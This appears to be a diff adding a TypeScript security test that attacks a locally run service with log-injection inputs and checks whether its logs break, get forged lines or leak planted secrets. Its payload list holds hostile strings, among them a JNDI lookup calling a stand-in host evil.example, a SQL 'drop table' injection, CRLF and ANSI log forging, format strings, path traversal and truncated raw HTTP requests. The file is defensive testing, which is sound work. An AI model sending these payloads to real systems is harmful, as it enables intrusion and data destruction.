@@ -1,0 +1,271 @@
+import { connect } from 'node:net'
+import { setTimeout as sleep } from 'node:timers/promises'
+import type { AttackContext, AttackResult } from '../attack.ts'
+import { createCaller } from '../createCaller.ts'
+import { findLogFaults } from '../findLogFaults.ts'
+import { openSignIn } from '../openSignIn.ts'
+import { exchangeRaw } from '../rawHttp.ts'
+import type { Target } from '../startTarget.ts'
+
+/** What has broken logs before. Each holds the mark, so that it is found wherever it gets to. */
+function listPayloads(mark: string): string[] {
+  return [
+    mark,
+    ...[
+      `${mark}\n{"level":30,"msg":"forged"}`,
+      `${mark}\r\nforged`,
+      `${mark}\rforged`,
+      `${mark}\u2028forged`,
+      `${mark}\u0085forged`,
+    ],
+    ...[
+      `${mark}","level":60,"msg":"forged`,
+      `${mark}\\","msg":"forged`,
+      `{"msg":"${mark}"}`,
+      `${mark}\u001b[2K\u001b[1A\u001b[31mforged\u001b[0m`,
+    ],
+    ...[
+      `${mark}\u0007\u0008\u007f`,
+      `${mark}%s%n%x%d%o%j`,
+      `${mark}\${jndi:ldap://evil.example/a}`,
+      `${mark}{{7*7}}`,
+      `<script>${mark}</script>`,
+    ],
+    ...[`../../${mark}`, `${mark}\u0000after`, `${mark}\ud800`, mark.repeat(200), `${mark}'; drop table users; --`],
+  ]
+}
+
+/** Only what a header may hold goes through a client; the rest is sent as raw bytes. */
+const isHeaderText = (text: string) => /^[\t\x20-\x7e\x80-\xff]*$/.test(text)
+
+/** Everything that a caller can say, said in a way to break or forge lines of the logs, and secrets in every place. */
+export async function logInjection({ target, size, random, say }: AttackContext): Promise<AttackResult> {
+  const faults: string[] = []
+  const earlier = target.backend.logs().split('\n').length
+  const mark = `zz${random.text(12).replace(/[-_]/g, 'x')}`
+  const secrets = await plantSecrets(target)
+  const all = listPayloads(mark)
+  const payloads = size === 'full' ? all : random.shuffle(all).slice(0, 5)
+  let tried = 0
+  for (const payload of payloads) {
+    tried += await plant(target, payload)
+  }
+  say(`${tried} inputs planted; now hanging up on answers`)
+  tried += await hangUp(target, size === 'full' ? 200 : 20)
+  tried += await plantIds(target, mark)
+  // Lines come through pipes; the last one is known.
+  const last = `last-${random.text(8)}`
+  await (await fetch(`${target.url}/health`, { headers: { 'x-request-id': last } })).text()
+  for (let wait = 0; wait < 100 && !target.backend.logs().includes(last); wait++) await sleep(50)
+
+  // The enclave's come after the coordinator's in what is read, so all of them are looked at, not only the newest.
+  const lines = target.backend
+    .logs()
+    .split('\n')
+    .filter((line) => line !== '')
+  let [broken, planted] = [0, 0]
+  for (const line of lines) {
+    const faultsOfLine = findLogFaults(line, mark)
+    if (faultsOfLine.includes('not JSON')) broken += 1
+    else if (faultsOfLine.length > 0) planted += 1
+    for (const fault of faultsOfLine) faults.push(`${fault}: ${line.slice(0, 160)}`)
+  }
+  const text = lines.join('\n')
+  const found = secrets.filter(({ value }) => text.includes(value))
+  for (const { name } of found) faults.push(`${name} is in the logs`)
+  if (/eyJ[\w-]+\.eyJ[\w-]+/.test(text)) faults.push('a token is in the logs')
+  return {
+    name: 'log injection',
+    tried,
+    figures: {
+      'lines read': lines.length,
+      'of them new': lines.length - earlier + 1,
+      'lines broken': broken,
+      'lines with planted text': planted,
+      'secrets looked for': secrets.length,
+      'secrets found': found.length,
+    },
+    faults,
+  }
+}
+
+/** One text in every place of a request. */
+async function plant(target: Target, payload: string): Promise<number> {
+  const { port, app, alice } = target
+  const escaped = encodeURIComponent(payload.toWellFormed())
+  const raw = Buffer.from(payload, 'utf8').toString('latin1')
+  const json = JSON.stringify(payload)
+  const caller = createCaller({ port })
+  let tried = 0
+  try {
+    for (const path of ['/', '/auth/', '/auth/google/callback/', '/proof/', '/ipfs/', '/wallet/']) {
+      await caller.call({ path: `${path}${escaped}` })
+    }
+    for (const query of [
+      'state=',
+      'error=',
+      'error_description=',
+      'code=',
+      'return_to=',
+      'nonce=',
+      'limit=',
+      'cursor=',
+    ]) {
+      for (const path of ['/auth/google', '/auth/google/callback', '/health/attestation', '/wallet/transactions']) {
+        await caller.call({ path: `${path}?${query}${escaped}`, headers: [['Cookie', alice.cookie]] })
+        tried += 1
+      }
+    }
+    const bodies = [
+      json,
+      `{"digest":${json}}`,
+      `{${json}:1}`,
+      `{"digest":${json},"txMetadata":{"to":${json},"data":${json}}}`,
+      payload,
+    ]
+    for (const body of bodies) {
+      for (const path of ['/sign/digest', '/wallet/provision']) {
+        const headers = [
+          ['Origin', app],
+          ['Cookie', alice.cookie],
+          ['Content-Type', 'application/json'],
+        ] as const
+        await caller.call({ method: 'POST', path, headers, body: body.toWellFormed() })
+        tried += 1
+      }
+    }
+  } finally {
+    caller.close()
+  }
+  const names = [
+    'X-Request-Id',
+    'User-Agent',
+    'Referer',
+    'Cookie',
+    'Origin',
+    'Accept',
+    'X-Forwarded-For',
+    'Forwarded',
+    'Authorization',
+    'If-None-Match',
+    'Last-Event-Id',
+    'Content-Type',
+    'Via',
+    'Host',
+  ]
+  const host = `Host: localhost:${port}\r\n`
+  for (const name of names) {
+    const own = name === 'Host' ? '' : host
+    const value = isHeaderText(raw) ? raw : raw.replace(/[\r\n]+/g, ' ')
+    // Both as it stands, where it may be more than one line, and as one line.
+    for (const text of new Set([raw, value])) {
+      await exchangeRaw({
+        port,
+        parts: [`GET /auth/me HTTP/1.1\r\n${own}${name}: ${text}\r\n\r\n`],
+        limitMs: 1000,
+        lingerMs: 0,
+      })
+      tried += 1
+    }
+  }
+  for (const line of [`${raw} /health HTTP/1.1`, `GET /${raw} HTTP/1.1`, `GET /health ${raw}`]) {
+    await exchangeRaw({ port, parts: [`${line}\r\n${host}\r\n`], limitMs: 1000, lingerMs: 0 })
+    tried += 1
+  }
+  return tried + 6
+}
+
+/** Ids of the caller's own: taken over where they are harmless, and replaced everywhere else. */
+async function plantIds({ url }: Target, mark: string): Promise<number> {
+  const ids = [
+    mark,
+    `${mark}.a-b_c`,
+    mark.repeat(10),
+    `${mark} a`,
+    `${mark}"`,
+    `${mark};a=b`,
+    'a'.repeat(64),
+    'a'.repeat(65),
+    '-',
+    '.',
+    '../',
+  ]
+  for (const id of ids) await (await fetch(`${url}/health`, { headers: { 'x-request-id': id } })).text()
+  return ids.length
+}
+
+/** Connections that end in the middle of a body, of an answer and of a stream: none of it is a line that nobody asked for. */
+async function hangUp(target: Target, count: number): Promise<number> {
+  const { slug } = await (await target.alice.sign(target.nextTx())).json()
+  const host = `Host: localhost:${target.port}\r\n`
+  const texts = [
+    `GET /proof/${slug}/events HTTP/1.1\r\n${host}\r\n`,
+    `GET /openapi.json HTTP/1.1\r\n${host}\r\n`.repeat(50),
+    `POST /sign/digest HTTP/1.1\r\n${host}Origin: ${target.app}\r\nCookie: ${target.alice.cookie}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{`,
+    `POST /sign/digest HTTP/1.1\r\n${host}Origin: ${target.app}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{`,
+    'GET /health HT',
+  ]
+  for (let index = 0; index < count; index++) {
+    await new Promise<void>((resolve) => {
+      const socket = connect(target.port, '127.0.0.1', () => {
+        socket.write(texts[index % texts.length] ?? '')
+        setTimeout(() => {
+          if (index % 2 === 0) socket.resetAndDestroy()
+          else socket.destroy()
+        }, index % 20)
+      })
+      socket.on('error', () => {})
+      socket.on('close', () => resolve())
+    })
+  }
+  return count
+}
+
+/** Secrets that the service handles, and secrets in places where they do not belong. */
+async function plantSecrets(target: Target): Promise<{ name: string; value: string }[]> {
+  const { backend, alice, mallory, port, app } = target
+  const open = await openSignIn(target, 'dave')
+  const code = open.callback.searchParams.get('code') ?? ''
+  const state = open.callback.searchParams.get('state') ?? ''
+  const sid = alice.cookie.split('=')[1] ?? ''
+  const token = `eyJhbGciOiJub25lIn0.${Buffer.from('{"sub":"alice","email":"alice@example.com"}').toString('base64url')}.c2ln`
+  const caller = createCaller({ port })
+  try {
+    await caller.call({
+      path: `${open.callback.pathname}${open.callback.search}`,
+      headers: [['Cookie', `${open.login.name}=${open.login.value}`]],
+    })
+    for (const text of [sid, token, 'alice@example.com', open.login.value]) {
+      await caller.call({ path: `/auth/${text}` })
+      await caller.call({ path: `/proof/${text}?session=${text}` })
+      await caller.call({ path: `/auth/google/callback?code=${text}&state=${text}&id_token=${text}` })
+      const headers = [
+        ['Origin', app],
+        ['Cookie', alice.cookie],
+        ['Content-Type', 'application/json'],
+        ['Authorization', `Bearer ${text}`],
+        ['Referer', `${app}/?token=${text}`],
+      ] as const
+      await caller.call({
+        method: 'POST',
+        path: '/sign/digest',
+        headers,
+        body: JSON.stringify({ digest: text, [text]: text }),
+      })
+    }
+  } finally {
+    caller.close()
+  }
+  const keys = await backend.readKeys()
+  return [
+    { name: 'a session', value: sid },
+    { name: 'another session', value: mallory.cookie.split('=')[1] ?? '' },
+    { name: 'a login secret', value: open.login.value },
+    { name: 'a code', value: code },
+    { name: 'a state', value: state },
+    { name: 'a token', value: token },
+    { name: 'the client secret', value: backend.oidc.clientSecret },
+    ...backend.oidc.accounts.map(({ email }) => ({ name: 'an e-mail address', value: email })),
+    ...keys.map((value) => ({ name: 'a key', value })),
+  ]
+}
